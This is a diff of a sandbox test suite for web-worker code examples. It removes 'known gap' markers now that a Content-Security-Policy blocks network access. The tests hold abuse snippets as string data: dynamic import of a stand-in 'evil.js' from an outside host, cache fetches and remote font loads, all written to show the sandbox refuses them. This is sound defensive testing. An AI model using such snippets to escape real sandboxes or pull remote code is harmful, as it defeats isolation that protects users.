@@ -150,29 +150,24 @@ const thePage: AbuseCase[] = [
 /**
  * What a list of refused APIs cannot cover: a worker has more ways to the network than can be
  * listed (and `import()` is syntax). The Content-Security-Policy the server sends with the worker
- * script (server/headers-file.mjs) covers them all: chromium refuses these requests itself, and
- * with it these subtests pass. They stay todos because the harness's check of every page counts a
- * request the browser refused (it records requests as they start) as one to another host.
+ * script (server/headers-file.mjs, `connect-src 'none'`) covers them all: chromium refuses these
+ * requests itself, and the harness does not count a request the browser refused.
  */
-const withoutCsp = 'needs the example worker\'s Content-Security-Policy in the build, and a harness that does not count requests the browser refused';
 const networkGaps: AbuseCase[] = [
   {
     name: 'imports a module from another host',
     code: `var imported = import("${outsider}/evil.js").catch(function () {});`,
     shows: { result: 'Result: imported' },
-    knownGap: withoutCsp,
   },
   {
     name: 'fetches into the cache from another host',
     code: `var cached = caches.open("abuse").then(function (cache) { return cache.add("${outsider}/"); }).catch(function () {});`,
     shows: { result: 'Result: cached' },
-    knownGap: withoutCsp,
   },
   {
     name: 'loads a font from another host',
     code: `var font = new FontFace("abuse", "url(${outsider}/font.woff)").load().catch(function () {});`,
     shows: { result: 'Result: font' },
-    knownGap: withoutCsp,
   },
 ];
 
@@ -251,7 +246,7 @@ describe('live examples that misbehave', () => {
   it('keep the worker\'s channel to the page and its life to the runner', { timeout: 90_000 }, (t) => runCases(t, withPage, runnerChannel));
   it('reach no other host through the APIs a worker has for it', { timeout: 90_000 }, (t) => runCases(t, withPage, network));
   it('cannot reach the page', { timeout: 90_000 }, (t) => runCases(t, withPage, thePage));
-  it('reach no other host through import(), caches or fonts', { timeout: 90_000, todo: withoutCsp }, (t) => runCases(t, withPage, networkGaps));
+  it('reach no other host through import(), caches or fonts', { timeout: 90_000 }, (t) => runCases(t, withPage, networkGaps));
   for (const gap of memoryGaps) {
     it(`keep the tab alive when an example ${gap.name}`, { timeout: 90_000, todo: gap.knownGap }, (t) => runCases(t, withPage, [gap]));
   }
